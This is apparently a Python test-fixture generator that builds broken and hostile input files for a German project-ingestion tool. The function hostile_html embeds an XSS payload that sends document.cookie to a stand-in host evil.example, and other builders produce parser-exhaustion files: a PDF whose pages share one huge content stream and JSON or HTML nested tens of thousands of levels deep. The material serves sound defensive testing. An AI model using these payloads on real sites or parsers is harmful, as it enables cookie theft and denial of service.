"""Generate the bad-input corpus: broken, hostile and odd files next to good ones, all built by code.

Every builder returns the bytes of one file, so tests write them into a temp folder and nothing
binary is checked in. `BAD_CASES` lists each bad file with what ingesting it must do. Run as a
script to write the corpus into a folder for a look by hand:

    python tests/badinput/make_corpus.py OUT_DIR [--max-mb 6]
"""

from __future__ import annotations

import argparse
import json
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pymupdf

# Strings planted in hostile markup; none may reach a stored project.
SCRIPT_MARKERS = ("stealCookies", "alert(", "onerror", "onclick", "onload", "javascript:", "evil.example")
# Text of the windows-1252 page, as it must come out (umlauts, ß, typographic quotes, euro sign).
CP1252_TITLE = "Müttercafé Südstadt"
CP1252_PHRASES = ("Größere Kinder", "Straße", "„Zeit für uns“", "5 € pro Treffen", "Öffnungszeiten")
UNKNOWN_HEADING = "Ausblick und Wünsche"
UNKNOWN_HEADING_TEXT = "Im nächsten Jahr soll ein zweiter Standort in Sindelfingen dazukommen."
LONG_LINE_BYTES = 5_000_000
# Twice the 10,000 levels a reliability check asks for: a linear parser takes a second or two, a
# quadratic one minutes, so the difference cannot be mistaken for a slow machine.
NESTING_DEPTH = 20_000

PAGE_WIDTH, PAGE_HEIGHT = 595, 842  # A4 in points


# ---- good files ---------------------------------------------------------------------------------
def project_markdown(
    title: str,
    approach: str = "Wir treffen uns jede Woche im Gemeindehaus.",
    extra_sections: tuple[tuple[str, str], ...] = (),
) -> bytes:
    """A one-project Markdown file with front matter, as users write them."""
    sections = [
        ("Herangehensweise", approach),
        ("Zusammenarbeit mit Netzwerkpartnern", "Die Stadtbibliothek stellt Räume zur Verfügung."),
        ("Mehrwert", "Neu Zugewanderte finden Anschluss und üben Deutsch."),
        *extra_sections,
        ("Besonderheiten", "Das Angebot wird ehrenamtlich getragen."),
    ]
    body = "".join(f"## {heading}\n\n{text}\n\n" for heading, text in sections)
    front = (
        f'---\ntitle: "{title}"\narea: Bildung\norganisation: Verein Brücke e.V.\ntown: Böblingen\n'
        "target_groups: [Geflüchtete, Frauen]\npartners: [Stadtbibliothek Böblingen]\n---\n"
    )
    return (front + body).encode("utf-8")


def project_html(
    title: str, body_html: str = "", encoding: str = "utf-8", charset: str | None = "utf-8"
) -> bytes:
    """A project page in the shape of a county web page."""
    meta = f'<meta charset="{charset}">' if charset else ""
    page = (
        f"<!DOCTYPE html><html><head>{meta}<title>{title} | Landkreis</title></head><body>"
        "<nav><a href='/'>Startseite</a></nav><main>"
        f"<h1>{title}</h1><p>Träger: Verein Brücke e.V.</p><p>Ort: Leonberg</p>"
        "<h2>Herangehensweise</h2><p>Einmal im Monat kochen Familien aus vielen Ländern zusammen.</p>"
        f"{body_html}"
        "<h2>Mehrwert</h2><p>Nachbarn lernen sich kennen und helfen einander im Alltag.</p>"
        "</main><footer>Impressum</footer></body></html>"
    )
    return page.encode(encoding)


def project_jsonl_lines(titles: list[str]) -> list[str]:
    return [
        json.dumps(
            {"title": t, "text": f"{t}: Beratung für Familien im Landkreis.", "town": "Sindelfingen"},
            ensure_ascii=False,
        )
        for t in titles
    ]


def two_projects_markdown(first: str, second: str, detail: str = "") -> bytes:
    """One Markdown file holding two projects, so a crash can fall between them."""
    text = "".join(
        f"# {title}\n\nOrt: Böblingen\nTräger: Verein Brücke e.V.\n\n## Herangehensweise\n\n"
        f"{title}: Ehrenamtliche beraten Familien und üben Deutsch im Alltag. {detail}\n\n"
        "## Mehrwert\n\nFamilien finden Anschluss.\n\n"
        for title in (first, second)
    )
    return text.encode()


def collection_a() -> dict[str, bytes]:
    """A small collection of good files: five projects, two of them in one Markdown file, two in a JSONL."""
    return {
        "a1.md": project_markdown("Sprachcafé Miteinander"),
        "a2.md": two_projects_markdown("Elterncafé Aidlingen", "Lesepaten Weil im Schönbuch"),
        "a3.jsonl": "\n".join(project_jsonl_lines(["Mentoring Ehningen", "Ferienschule Gäufelden"])).encode(),
    }


def collection_b() -> dict[str, bytes]:
    """A second collection, ingested on top of the first."""
    return {
        "b1.md": project_markdown(
            "Bewerbungswerkstatt Gärtringen", approach="Wir üben Vorstellungsgespräche."
        ),
        "b2.md": project_markdown("Hausaufgabenhilfe Nufringen", approach="Schüler lernen mit Studierenden."),
        "b3.md": two_projects_markdown("Nähcafé Holzgerlingen", "Kochtreff Schönaich"),
        "b4.jsonl": "\n".join(project_jsonl_lines(["Radfahrkurs Magstadt", "Schwimmkurs Grafenau"])).encode(),
    }


@dataclass
class PdfProject:
    title: str
    fields: list[tuple[str, str]] = field(
        default_factory=lambda: [
            ("Träger:", "Verein Brücke e. V."),
            ("Ort:", "Herrenberg"),
            ("Zielgruppe:", "Frauen, Familien"),
        ]
    )
    sections: list[tuple[str, str]] = field(
        default_factory=lambda: [
            ("Herangehensweise", "Ehrenamtliche begleiten Familien zu Terminen bei Ämtern und Ärzten. " * 3),
            ("Mehrwert", "Die Familien finden sich schneller zurecht und knüpfen Kontakte. " * 2),
        ]
    )


def brochure_pdf(projects: list[PdfProject]) -> bytes:
    """A brochure-like PDF: one project a page, large bold title, info block, bold section headings."""
    document = pymupdf.open()
    for project in projects:
        page = document.new_page(width=PAGE_WIDTH, height=PAGE_HEIGHT)
        page.insert_text((60, 110), project.title, fontname="hebo", fontsize=22)
        y = 150.0
        for label, value in project.fields:
            page.insert_text((60, y), label, fontname="hebo", fontsize=10)
            page.insert_text((140, y), value, fontname="helv", fontsize=10)
            y += 14
        y += 16
        for heading, text in project.sections:
            page.insert_text((60, y), heading, fontname="hebo", fontsize=11)
            box = pymupdf.Rect(60, y + 6, PAGE_WIDTH - 60, y + 200)
            spare = page.insert_textbox(box, text.strip(), fontname="helv", fontsize=10)
            y = box.y1 - spare + 24  # insert_textbox returns the height left unused in the box
    data = document.tobytes(garbage=3, deflate=True)
    document.close()
    return data


def good_pdf() -> bytes:
    return brochure_pdf([PdfProject("Familienlotsen im Gäu"), PdfProject("Lernpaten für Grundschulkinder")])


# ---- bad files ----------------------------------------------------------------------------------
def truncated_pdf(keep: float = 0.5) -> bytes:
    data = good_pdf()
    return data[: int(len(data) * keep)]


def encrypted_pdf() -> bytes:
    document = pymupdf.open(stream=good_pdf(), filetype="pdf")
    data = document.tobytes(
        encryption=pymupdf.PDF_ENCRYPT_AES_256, owner_pw="owner-secret", user_pw="user-secret"
    )
    document.close()
    return data


def image_only_pdf(pages: int = 2) -> bytes:
    """A 'scanned' PDF: every page one grey image, no text layer."""
    document = pymupdf.open()
    pixmap = pymupdf.Pixmap(pymupdf.csRGB, pymupdf.IRect(0, 0, 64, 64), False)
    pixmap.clear_with(180)
    for _ in range(pages):
        page = document.new_page(width=PAGE_WIDTH, height=PAGE_HEIGHT)
        page.insert_image(pymupdf.Rect(40, 40, PAGE_WIDTH - 40, PAGE_HEIGHT - 40), pixmap=pixmap)
    data = document.tobytes()
    document.close()
    return data


def partly_scanned_pdf() -> bytes:
    """A brochure whose third page is a scan: the two text pages are read, the scan is named."""
    document = pymupdf.open(stream=good_pdf(), filetype="pdf")
    document.insert_pdf(pymupdf.open(stream=image_only_pdf(pages=1), filetype="pdf"))
    data = document.tobytes()
    document.close()
    return data


def unknown_heading_pdf() -> bytes:
    project = PdfProject("Nähcafé Weltenbummler")
    project.sections.append((UNKNOWN_HEADING, UNKNOWN_HEADING_TEXT))
    return brochure_pdf([project])


def unknown_heading_markdown() -> bytes:
    return project_markdown(
        "Gartenprojekt Wurzelwerk", extra_sections=((UNKNOWN_HEADING, UNKNOWN_HEADING_TEXT),)
    )


def binary_named_html() -> bytes:
    """PNG-like bytes followed by noise: what a mis-named image looks like."""
    noise = bytes((i * 131 + 7) % 256 for i in range(4096))
    return b"\x89PNG\r\n\x1a\n" + noise


def hostile_html() -> bytes:
    body = (
        "<script>document.location='https://evil.example/?c='+document.cookie; stealCookies();</script>"
        "<h2>Besonderheiten</h2>"
        '<p onclick="stealCookies()">Die Gruppe trifft sich auch in den Ferien.</p>'
        '<img src=x onerror="alert(1)" alt="">'
        '<p><a href="javascript:stealCookies()">Mehr erfahren</a> über das Kochen.</p>'
        '<svg onload="alert(2)"><text>bild</text></svg>'
        '<iframe src="https://evil.example/frame"></iframe>'
        "<style>body{background:url(https://evil.example/x.png)}</style>"
    )
    return project_html("Interkulturelle Kochgruppe", body)


def cp1252_html() -> bytes:
    """A page saved in windows-1252 with no charset declared anywhere."""
    body = "".join(f"<p>{phrase}.</p>" for phrase in CP1252_PHRASES)
    return project_html(CP1252_TITLE, "<h2>Besonderheiten</h2>" + body, encoding="cp1252", charset=None)


def broken_jsonl() -> bytes:
    first, third = project_jsonl_lines(["Elterncafé Aidlingen", "Lesepaten Weil im Schönbuch"])
    broken = '{"title": "Kaputte Zeile", "text": "abgeschnitten'
    return "\n".join([first, broken, third, ""]).encode("utf-8")


def csv_without_title() -> bytes:
    return "Verein;Beschreibung;Ort\nBrücke e.V.;Sprachkurse für Eltern;Böblingen\n".encode()


def long_line_markdown(size: int = LONG_LINE_BYTES) -> bytes:
    """A project whose approach is one line of `size` bytes without a line break."""
    sentence = "Die Gruppe übt Deutsch im Alltag und bespricht Briefe von Behörden. "
    line = (sentence * (size // len(sentence.encode()) + 1)).encode()[:size].decode("utf-8", "ignore")
    return project_markdown("Sehr lange Zeile", approach=line)


# Elements nested in deep pages: (opening markup, closing markup) of one level.
NESTINGS = {
    "div": ("<div>", "</div>"),
    "article": ("<article>", "</article>"),
    "main": ("<main>", "</main>"),
    "content-div": ('<div class="content">', "</div>"),
    "dl": ("<dl><dt>Ort:</dt><dd>", "</dd></dl>"),
    "list": ("<ul><li>", "</li></ul>"),
    "table": ("<table><tr><td>", "</td></tr></table>"),
}


def deep_html(nesting: str = "div", depth: int = NESTING_DEPTH) -> bytes:
    """A page whose content sits `depth` levels deep in one kind of element."""
    opening, closing = NESTINGS[nesting]
    inner = (
        "<h1>Tief verschachtelt</h1><p>Ein Projekt tief in Blöcken: Nachbarn helfen Nachbarn beim Umzug.</p>"
    )
    page = (
        "<!DOCTYPE html><html><head><meta charset='utf-8'><title>Tief verschachtelt</title></head><body>"
        + opening * depth
        + inner
        + closing * depth
        + "</body></html>"
    )
    return page.encode("utf-8")


def oversized_markdown(max_bytes: int) -> bytes:
    """A valid project file one kilobyte over the size limit."""
    head = project_markdown("Zu groß")
    return head + b"\n" + b"x" * (max_bytes + 1024 - len(head))


def deep_json(depth: int = 100_000) -> bytes:
    """A JSON document nested deeper than Python's recursion limit (json.loads raises RecursionError)."""
    return b'{"projects": ' + b"[" * depth + b"]" * depth + b"}"


def deep_jsonl(depth: int = 100_000) -> bytes:
    """A good record, then a line nested too deeply, then another good record."""
    good = project_jsonl_lines(["Lesepaten Holzgerlingen", "Radwerkstatt Weil im Schönbuch"])
    return "\n".join([good[0], '{"title": ' + "[" * depth + "]" * depth + "}", good[1]]).encode()


def garbage_jsonl(megabytes: int = 5) -> bytes:
    """Half a million lines, none of them JSON (2 million such lines once kept 1.3 GB of problems)."""
    return b"kein json\n" * (megabytes * 1024 * 1024 // 10)


def wide_csv(columns: int = 50_000) -> bytes:
    """A table with far more columns than any project has fields (a 9.7 MB project page before)."""
    header = "titel;beschreibung;" + ";".join(f"spalte{i}" for i in range(columns))
    return (header + "\nBreit;Text\n").encode()


def long_word_markdown(letters: int = 20_000) -> bytes:
    """A project whose text holds one word of 20,000 letters (quadratic compound splitting before)."""
    head = project_markdown("Wortlawine")
    return head + b"\n" + b"Wort" * (letters // 4) + b"\n"


def shared_stream_pdf(pages: int = 40, megabytes: int = 10) -> bytes:
    """A small PDF whose pages all show one large content stream (400 MB of page content unpacked)."""
    document = pymupdf.open()
    first = document.new_page()
    first.insert_text((72, 72), "Projekt")
    xref = first.get_contents()[0]
    document.update_stream(xref, b"q Q " * (megabytes * 1024 * 1024 // 4))
    for _ in range(pages - 1):
        page = document.new_page()
        document.xref_set_key(page.xref, "Contents", f"{xref} 0 R")
    return document.tobytes(deflate=True)


@dataclass(frozen=True)
class BadCase:
    """One bad file and what ingesting it must do."""

    name: str
    filename: str
    build: Callable[[int], bytes]  # max_bytes → file content
    status: str  # the FileOutcome status: failed, partial or ok
    reason: str | None = None  # a regular expression the error must match (None: no error)
    location: str | None = None  # "line 2", "page 1" ... the error must name it


BAD_CASES: list[BadCase] = [
    BadCase(
        "truncated-pdf",
        "abgeschnitten.pdf",
        lambda _: truncated_pdf(),
        "failed",
        r"truncated|not a readable PDF",
    ),
    BadCase(
        "encrypted-pdf", "verschluesselt.pdf", lambda _: encrypted_pdf(), "failed", r"encrypted.*password"
    ),
    BadCase(
        "image-only-pdf",
        "gescannt.pdf",
        lambda _: image_only_pdf(),
        "failed",
        r"no text layer.*OCR",
        "page 1",
    ),
    BadCase(
        "partly-scanned-pdf",
        "teilweise-gescannt.pdf",
        lambda _: partly_scanned_pdf(),
        "partial",
        r"no text layer.*OCR",
        "page 3",
    ),
    BadCase("empty-file", "leer.md", lambda _: b"", "failed", r"empty file"),
    BadCase("too-large", "riesig.md", oversized_markdown, "failed", r"too large.*limit"),
    BadCase("binary-html", "bild.html", lambda _: binary_named_html(), "failed", r"binary"),
    BadCase("hostile-html", "kochgruppe.html", lambda _: hostile_html(), "ok"),
    BadCase("cp1252-html", "muettercafe.html", lambda _: cp1252_html(), "ok"),
    BadCase(
        "broken-jsonl", "projekte.jsonl", lambda _: broken_jsonl(), "partial", r"not valid JSON", "line 2"
    ),
    BadCase("csv-no-title", "vereine.csv", lambda _: csv_without_title(), "failed", r"no title column"),
    BadCase("unknown-heading-md", "wurzelwerk.md", lambda _: unknown_heading_markdown(), "ok"),
    BadCase("unknown-heading-pdf", "naehcafe.pdf", lambda _: unknown_heading_pdf(), "ok"),
    BadCase("long-line-md", "lange-zeile.md", lambda _: long_line_markdown(), "ok"),
    BadCase("deep-json", "tief.json", lambda _: deep_json(), "failed", r"nested too deeply"),
    BadCase("deep-jsonl", "tief.jsonl", lambda _: deep_jsonl(), "partial", r"nested too deeply", "line 2"),
    BadCase(
        "garbage-jsonl",
        "muell.jsonl",
        lambda _: garbage_jsonl(),
        "failed",
        r"not valid JSON|more problems \(only the first 100|none of the first 1,000 entries is a project",
    ),
    BadCase("wide-csv", "breit.csv", lambda _: wide_csv(), "failed", r"50,002 columns; at most"),
    BadCase("long-word-md", "wortlawine.md", lambda _: long_word_markdown(), "ok"),
    BadCase(
        "shared-stream-pdf",
        "schicht.pdf",
        lambda _: shared_stream_pdf(),
        "failed",
        r"page content of .* MB",
        "page 21",
    ),
    # Ingested, or refused as nested too deeply: both fine, as long as it finishes and says so.
    *[
        BadCase(
            f"deep-{nesting}-html",
            f"verschachtelt-{nesting}.html",
            lambda _, n=nesting: deep_html(n),
            "ok|failed",
            r"nest",
        )
        for nesting in NESTINGS
    ],
]

GOOD_TITLES = ("Sprachcafé Miteinander", "Bewerbungswerkstatt Gärtringen", "Hausaufgabenhilfe Nufringen")


def write_good_files(folder: Path) -> dict[str, list[str]]:
    """Good files of every kind; returns {file name: the project titles it holds}."""
    folder.mkdir(parents=True, exist_ok=True)
    files: dict[str, bytes] = {f"gut-{i}.md": project_markdown(t) for i, t in enumerate(GOOD_TITLES)}
    files["gut-seite.html"] = project_html("Stadtteilmütter Maichingen")
    files["gut-liste.jsonl"] = "\n".join(
        project_jsonl_lines(["Mentoring Ehningen", "Ferienschule Gäufelden"])
    ).encode()
    files["gut-heft.pdf"] = good_pdf()
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return {
        **{f"gut-{i}.md": [t] for i, t in enumerate(GOOD_TITLES)},
        "gut-seite.html": ["Stadtteilmütter Maichingen"],
        "gut-liste.jsonl": ["Mentoring Ehningen", "Ferienschule Gäufelden"],
        "gut-heft.pdf": ["Familienlotsen im Gäu", "Lernpaten für Grundschulkinder"],
    }


def write_bad_file(folder: Path, case: BadCase, max_bytes: int) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / case.filename
    path.write_bytes(case.build(max_bytes))
    return path


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path)
    parser.add_argument("--max-mb", type=float, default=6.0, help="the size limit the too-large file exceeds")
    args = parser.parse_args(argv)
    max_bytes = int(args.max_mb * 1024 * 1024)
    write_good_files(args.out / "good")
    for case in BAD_CASES:
        path = write_bad_file(args.out / "bad", case, max_bytes)
        print(f"{case.name:20} {path} ({path.stat().st_size} bytes)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
